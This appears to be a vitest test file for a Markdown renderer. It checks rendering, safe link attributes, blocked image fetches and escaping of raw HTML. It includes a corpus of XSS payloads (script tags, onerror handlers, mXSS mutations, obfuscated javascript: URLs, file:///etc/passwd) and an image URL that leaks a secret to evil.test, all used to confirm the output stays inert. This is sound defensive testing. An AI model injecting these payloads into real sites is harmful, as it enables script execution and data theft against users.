import { describe, expect, test } from 'vitest';
import { renderMarkdown, toHtml } from './markdown';

const dom = (src: string) => {
  const div = document.createElement('div');
  div.append(renderMarkdown(src));
  return div;
};

describe('markdown', () => {
  test('common answer syntax', () => {
    const d = dom('# Title\n\nSome **bold**, *em*, `code <b>`, ~~old~~.\n\n- one\n- two\n\n1. first\n\n> quote\n\n```\nx < y\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |');
    expect(d.querySelector('h3')?.textContent).toBe('Title');
    expect(d.querySelector('strong')?.textContent).toBe('bold');
    expect(d.querySelector('em')?.textContent).toBe('em');
    expect(d.querySelector('p code')?.textContent).toBe('code <b>');
    expect(d.querySelector('del')?.textContent).toBe('old');
    expect(d.querySelectorAll('ul li')).toHaveLength(2);
    expect(d.querySelector('ol li')?.textContent).toBe('first');
    expect(d.querySelector('blockquote')?.textContent).toBe('quote');
    expect(d.querySelector('pre code')?.textContent).toBe('x < y');
    expect(d.querySelectorAll('td')).toHaveLength(2);
  });

  test('links open in a new tab without opener or referrer', () => {
    const a = dom('See [docs](https://example.com/a?b=1&c=2) or https://lumen.test/x.')!.querySelectorAll('a');
    expect(a).toHaveLength(2);
    expect(a[0].getAttribute('href')).toBe('https://example.com/a?b=1&c=2');
    expect(a[1].getAttribute('href')).toBe('https://lumen.test/x');
    for (const x of a) {
      expect(x.getAttribute('target')).toBe('_blank');
      expect(x.getAttribute('rel')).toBe('noopener noreferrer');
    }
  });

  test('a Markdown image becomes a link and is never fetched', () => {
    const d = dom('![secret](https://evil.test/?q=SECRET) and <img src=https://evil.test/x>');
    expect(d.querySelector('img')).toBeNull();
    expect(d.querySelector('a')?.getAttribute('href')).toBe('https://evil.test/?q=SECRET');
    expect(d.querySelector('a')?.textContent).toBe('secret');
  });

  test('code inside link text keeps its text (placeholders are restored inside links too)', () => {
    const a = dom('Run [`npm install`](https://docs.npmjs.com/cli) first.').querySelector('a')!;
    expect(a.textContent).toBe('npm install');
    expect(a.querySelector('code')?.textContent).toBe('npm install');
  });

  test('balanced parentheses stay inside link targets and bare URLs', () => {
    const w = 'https://en.wikipedia.org/wiki/Mercury_(planet)';
    const d = dom(`See [Mercury](${w}) or ${w} (or https://example.com/a).`);
    const a = d.querySelectorAll('a');
    expect([...a].map((x) => x.getAttribute('href'))).toEqual([w, w, 'https://example.com/a']);
    expect(d.textContent).toBe(`See Mercury or ${w} (or https://example.com/a).`);
    expect(dom('[`x`](javascript:alert(1))').textContent).toBe('x');
  });

  test('angle-bracket autolinks become links without their brackets', () => {
    const d = dom('Docs: <https://example.com/a?b=1&c=2>, mail <mailto:help@example.com>; not <javascript:alert(1)>.');
    expect([...d.querySelectorAll('a')].map((a) => a.getAttribute('href'))).toEqual(['https://example.com/a?b=1&c=2', 'mailto:help@example.com']);
    expect(d.textContent).toBe('Docs: https://example.com/a?b=1&c=2, mail mailto:help@example.com; not <javascript:alert(1)>.');
  });

  test('raw HTML is text, not markup', () => {
    expect(toHtml('<b>x</b>').trim()).toBe('<p>&lt;b&gt;x&lt;/b&gt;</p>');
    expect(dom('<b>x</b>').textContent).toBe('<b>x</b>');
    // An HTML block does not swallow the Markdown inside it: raw HTML is simply not a construct.
    const d = dom('<div>\n*hi* <!-- c -->\n</div>');
    expect(d.querySelector('div')).toBeNull();
    expect(d.querySelector('em')?.textContent).toBe('hi');
    expect(d.textContent).toBe('<div>\nhi <!-- c -->\n</div>'.replace(/\n/g, ''));
  });
});

// Payloads gathered from the OWASP XSS filter evasion sheet, DOMPurify's own test corpus and
// mXSS write-ups; each is tried as plain text, inside a link target and inside an image.
const CORPUS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><circle r=10></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<style>@import "https://evil.test/x.css";</style>',
  '<p style="position:fixed;inset:0">cover</p>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<base href="https://evil.test/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<template><img src=x onerror=alert(1)></template>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<a href="x" class="evil" id="cw-name" data-x="1">x</a>',
];
const URLS = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  ' javascript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript&#58;alert(1)',
  '&#106;avascript:alert(1)',
  'javascript&colon;alert(1)',
  '&#x6A;avascript:alert(1)',
  'jav&#x09;ascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'file:///etc/passwd',
  '//evil.test/relative',
  '/relative/path',
];

function assertInert(d: HTMLElement) {
  const bad = d.querySelectorAll('script,style,img,svg,math,iframe,object,embed,form,input,base,meta,link,template,noscript,details');
  expect(bad.length).toBe(0);
  for (const el of d.querySelectorAll('*')) {
    for (const attr of el.attributes) {
      expect(attr.name.startsWith('on'), `${el.tagName} ${attr.name}`).toBe(false);
      expect(['style', 'class', 'id', 'src', 'srcset', 'action', 'formaction', 'xlink:href'].includes(attr.name)).toBe(false);
    }
    if (el.tagName === 'A' && el.hasAttribute('href')) expect(el.getAttribute('href')).toMatch(/^(https?:\/\/|mailto:)/);
  }
}

describe('XSS corpus renders inert', () => {
  test.each(CORPUS)('html %s', (p) => {
    const d = dom(p + '\n\n**' + p + '**\n\n- ' + p + '\n\n`' + p + '`');
    assertInert(d);
    expect(d.textContent).toContain(p.slice(0, 6));
  });
  test.each(URLS)('url %j', (u) => {
    const d = dom(`[click](${u}) ![img](${u}) <${u}> ${u}`);
    assertInert(d);
  });
  test('mailto survives, other schemes do not', () => {
    expect(dom('[mail](mailto:a@b.test)').querySelector('a')?.getAttribute('href')).toBe('mailto:a@b.test');
    expect(dom('[x](ftp://a.test/f)').querySelector('a')).toBeNull();
  });
});
